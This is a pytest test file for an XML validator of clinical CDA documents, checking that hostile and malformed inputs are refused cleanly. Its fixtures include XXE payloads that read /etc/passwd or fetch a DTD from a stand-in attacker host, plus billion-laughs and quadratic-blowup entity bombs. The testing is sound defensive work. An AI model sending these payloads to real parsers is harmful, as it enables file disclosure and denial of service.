"""Hostile and broken inputs: a clear `xml` finding, exit code 2, no hang, no traceback, no file read,
no network. Each payload is a classic attack (OWASP XXE cheat sheet) or a classic mistake."""

from __future__ import annotations

import pytest
from typer.testing import CliRunner

from segur.cli import app
from segur.validators import safe_xml, validate
from segur.validators.safe_xml import UnreadableDocument, parse

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<ClinicalDocument xmlns="urn:hl7-org:v3">&lol9;</ClinicalDocument>
"""
XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&xxe;</title></ClinicalDocument>
"""
XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<r/>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument SYSTEM "http://attacker.invalid/cda.dtd">
<ClinicalDocument xmlns="urn:hl7-org:v3"/>
"""
INTERNAL_SUBSET = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [<!ATTLIST ClinicalDocument classCode CDATA "DOCCLIN">]>
<ClinicalDocument xmlns="urn:hl7-org:v3"/>
"""
LONG_ENTITY = b'<!ENTITY a "' + b"x" * 50_000 + b'">'
QUADRATIC_BLOWUP = b'<?xml version="1.0"?><!DOCTYPE r [' + LONG_ENTITY + b"]><r>" + b"&a;" * 50_000 + b"</r>"


@pytest.mark.parametrize("payload, rule, line", [
    (BILLION_LAUGHS, "XML-003", 3),
    (XXE_FILE, "XML-004", 2),
    (XXE_PARAMETER, "XML-004", 2),
    (EXTERNAL_DTD, "XML-004", 2),
    (INTERNAL_SUBSET, "XML-005", 2),
    (QUADRATIC_BLOWUP, "XML-003", 1),
])
def test_dtd_and_entity_attacks_are_refused_before_expansion(payload, rule, line):
    report = validate(payload, pack=False)
    assert report.unreadable and report.exit_code == 2 and not report.valid
    assert [f.rule for f in report.findings] == [rule]
    assert report.findings[0].layer == "xml" and report.findings[0].line == line
    assert report.findings[0].hint
    assert all(layer.status == "skipped" for layer in report.layers if layer.name != "xml")


def test_xxe_target_is_named_but_never_read():
    report = validate(XXE_FILE, pack=False)
    assert "file:///etc/passwd" in report.findings[0].message
    assert "root:" not in report.findings[0].message


def test_utf16_document_with_entities_is_refused_too():
    declared_utf16 = XXE_FILE.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    report = validate(declared_utf16.encode("utf-16"), pack=False)
    assert report.unreadable and report.findings[0].rule == "XML-004"


def test_oversize_bytes_are_refused_without_parsing():
    report = validate(b"<a>" + b" " * 2000 + b"</a>", pack=False, max_size=1000)
    assert report.unreadable and [f.rule for f in report.findings] == ["XML-002"]
    assert "1000" in report.findings[0].message


def test_oversize_file_is_refused_from_its_size(tmp_path):
    big = tmp_path / "big.xml"
    with big.open("wb") as handle:
        handle.truncate(60 * 1024 * 1024)  # sparse: 60 MB, over the 50 MB default
    report = validate(big, pack=False)
    assert [f.rule for f in report.findings] == ["XML-002"] and report.size == 60 * 1024 * 1024


def test_deep_nesting_is_refused_not_a_crash():
    depth = 100_000
    report = validate(b"<a>" * depth + b"</a>" * depth, pack=False)
    assert report.unreadable and report.findings[0].rule == "XML-006"


@pytest.mark.parametrize("payload, line, column", [
    (b'<?xml version="1.0"?>\n<ClinicalDocument>\n  <id></title>\n</ClinicalDocument>', 3, 9),
    (b"<ClinicalDocument>\n<a>&undefined;</a></ClinicalDocument>", 2, 4),
    (b"<a>\n\n  <b attr=noquote/></a>", 3, 11),
])
def test_malformed_xml_gives_line_and_column(payload, line, column):
    report = validate(payload, pack=False)
    [finding] = report.findings
    assert finding.rule == "XML-001" and report.exit_code == 2
    assert (finding.line, finding.column) == (line, column)


def test_truncated_document_and_binary_garbage():
    assert validate(b"<ClinicalDocument xmlns='urn:hl7-org:v3'><id", pack=False).findings[0].rule == "XML-001"
    assert validate(bytes(range(256)) * 10, pack=False).findings[0].rule == "XML-001"
    assert validate(b"%PDF-1.4\n...", pack=False).findings[0].rule == "XML-001"


def test_empty_document():
    assert [f.rule for f in validate(b"", pack=False).findings] == ["XML-008"]
    assert [f.rule for f in validate(b"  \n ", pack=False).findings] == ["XML-008"]


def test_unreadable_paths(tmp_path):
    missing = validate(tmp_path / "missing.xml", pack=False)
    assert missing.unreadable and missing.findings[0].rule == "XML-007"
    directory = validate(tmp_path, pack=False)
    assert directory.unreadable and directory.findings[0].rule == "XML-007"


def test_parse_raises_unreadable_document_with_findings():
    with pytest.raises(UnreadableDocument) as caught:
        parse(BILLION_LAUGHS, name="lol.xml")
    assert caught.value.name == "lol.xml" and caught.value.findings[0].rule == "XML-003"
    assert "XML-003" in str(caught.value)


def test_text_input_honours_its_encoding_declaration():
    text = ('<?xml version="1.0" encoding="ISO-8859-1"?>'
            '<ClinicalDocument xmlns="urn:hl7-org:v3"><title>é</title></ClinicalDocument>')
    parsed = parse(text)
    assert parsed.tree.getroot()[0].text == "é"


def test_harmless_processing_instruction_and_comments_are_accepted():
    data = (b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="CDA.xsl"?>\n<!-- c -->\n'
            b'<ClinicalDocument xmlns="urn:hl7-org:v3"/>')
    assert parse(data).tree.getroot().tag == "{urn:hl7-org:v3}ClinicalDocument"


# -- through the CLI: exit code 2 and a clear message, never a traceback -------------------------

@pytest.mark.parametrize("payload, rule", [
    (BILLION_LAUGHS, "XML-003"), (XXE_FILE, "XML-004"), (EXTERNAL_DTD, "XML-004"), (b"<a>", "XML-001"),
])
def test_cli_exits_2_with_the_rule_and_no_traceback(tmp_path, payload, rule):
    path = tmp_path / "hostile.xml"
    path.write_bytes(payload)
    result = CliRunner().invoke(app, ["validate", "--no-pack", str(path)])
    assert result.exit_code == 2, result.output
    assert rule in result.output and "UNREADABLE" in result.output
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_cli_max_size_option(tmp_path):
    path = tmp_path / "doc.xml"
    path.write_bytes(b"<a>" + b" " * 5000 + b"</a>")
    result = CliRunner().invoke(app, ["validate", "--no-pack", "--max-size", "1k", str(path)])
    assert result.exit_code == 2 and "XML-002" in result.output


# ---------------------------------------------------------------------- large documents (issue 12)

BIG_TEXT = b"QUJD" * (11 * 1024 * 1024 // 4)  # one 11 MB text node, over libxml2's default 10 MB
BIG_DOC = b'<ClinicalDocument xmlns="urn:hl7-org:v3"><text>' + BIG_TEXT + b"</text></ClinicalDocument>"


def test_a_text_node_over_10_mb_is_parsed_within_the_size_limit():
    """A CR-IMG N1 with a PDF above ~7 MB has a base64 text node over libxml2's default limit:
    it was reported XML-001 'not well-formed' although --max-size allowed it."""
    parsed = parse(BIG_DOC, max_size=100 * 1024 * 1024)
    assert len(parsed.tree.getroot()[0].text) == len(BIG_TEXT)


def test_the_size_limit_still_refuses_the_same_document_first():
    with pytest.raises(UnreadableDocument) as refused:
        parse(BIG_DOC, max_size=10 * 1024 * 1024)
    assert [f.rule for f in refused.value.findings] == ["XML-002"]


def test_the_large_document_mode_keeps_the_depth_limit_of_256():
    """libxml2's large mode would accept 2048 levels: the project's own check refuses 300."""
    deep = b"<r><t>" + BIG_TEXT + b"</t>" + b"<a>" * 300 + b"</a>" * 300 + b"</r>"
    with pytest.raises(UnreadableDocument) as refused:
        parse(deep, max_size=100 * 1024 * 1024)
    finding = refused.value.findings[0]
    assert finding.rule == "XML-006" and "256" in finding.message and "cannot be changed" in finding.hint


def test_deep_nesting_names_the_limit():
    report = validate(b"<a>" * 300 + b"</a>" * 300, pack=False)
    assert report.findings[0].rule == "XML-006" and "more than 256 levels" in report.findings[0].message


def _with_big_text(payload: bytes) -> bytes:
    """The payload with an 11 MB text node inside its root element (open or self-closing)."""
    if b"</" in payload:
        head, sep, tail = payload.rpartition(b"</")
        return head + b"<big>" + BIG_TEXT + b"</big>" + sep + tail
    for empty, name in ((b'xmlns="urn:hl7-org:v3"/>', b"ClinicalDocument"), (b"<r/>", b"r")):
        if empty in payload:
            opened = empty[:-2] + b">"
            return payload.replace(empty, opened + BIG_TEXT + b"</" + name + b">")
    raise AssertionError("no root element found in the payload")


@pytest.mark.parametrize("payload, rule", [
    (BILLION_LAUGHS, "XML-003"), (XXE_FILE, "XML-004"), (XXE_PARAMETER, "XML-004"),
    (EXTERNAL_DTD, "XML-004"), (INTERNAL_SUBSET, "XML-005"),
])
def test_attacks_carrying_a_huge_text_node_are_still_refused(payload, rule):
    big = _with_big_text(payload)
    assert len(big) > 10 * 1024 * 1024
    with pytest.raises(UnreadableDocument) as refused:
        parse(big, max_size=100 * 1024 * 1024)
    assert refused.value.findings[0].rule == rule


def test_utf16_attack_with_a_huge_text_node_is_refused_by_the_tree_checks():
    """expat's prolog pass reads UTF-16 too; whatever reaches the tree is checked again."""
    big = _with_big_text(INTERNAL_SUBSET).decode("ascii").replace('<?xml version="1.0"?>', "")
    with pytest.raises(UnreadableDocument) as refused:
        parse(big.encode("utf-16"), max_size=100 * 1024 * 1024)
    assert refused.value.findings[0].rule == "XML-005"


def test_a_node_over_the_parser_hard_limit_is_xml_009_naming_the_limit(monkeypatch):
    """Over 1,000,000,000 bytes even the large mode refuses: stand in for it with a parser that
    keeps the default limits (a real 1 GB node would need a 1 GB test)."""
    real = safe_xml._parser
    monkeypatch.setattr(safe_xml, "_parser", lambda huge=False: real(huge=False))
    with pytest.raises(UnreadableDocument) as refused:
        parse(BIG_DOC, max_size=100 * 1024 * 1024)
    finding = refused.value.findings[0]
    assert finding.rule == "XML-009" and "1,000,000,000 bytes" in finding.message
    assert "cannot be raised" in finding.hint and "Text node too long" in finding.message
